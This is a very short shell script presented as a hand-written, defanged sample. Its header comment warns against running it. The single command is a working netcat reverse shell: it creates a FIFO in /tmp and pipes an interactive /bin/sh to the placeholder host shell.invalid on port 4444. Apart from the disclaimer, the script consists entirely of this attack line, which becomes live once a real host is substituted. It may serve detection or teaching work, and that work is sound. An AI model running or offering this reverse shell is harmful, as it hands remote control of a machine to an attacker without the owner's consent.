#!/bin/sh
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc shell.invalid 4444 >/tmp/f
